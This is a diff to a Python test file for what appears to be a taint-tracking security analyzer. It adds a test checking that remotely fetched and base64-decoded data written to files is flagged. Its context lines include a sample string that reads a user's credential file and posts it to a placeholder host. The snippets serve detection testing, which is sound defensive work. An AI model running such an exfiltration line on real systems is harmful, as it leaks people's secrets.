@@ -122,3 +122,9 @@ def test_files_of_secrets(path):
     source = f"import os, requests\nrequests.post('https://a.example', data=open(os.path.expanduser('{path}')).read())\n"
     assert v.CRED_FILE in kinds(source)
     assert "cred" in taints(source, v.NET)
+
+
+def test_what_is_written_counts_whichever_argument_it_is():
+    source = "import requests, zipfile\nzipfile.ZipFile('a', 'w').writestr('x', requests.get('https://x.example').content)\n"
+    assert taints(source, "write") == {"remote"}
+    assert taints("import base64\nopen('b', 'wb').write(data=base64.b64decode(x))\n", "write") == {"decoded"}
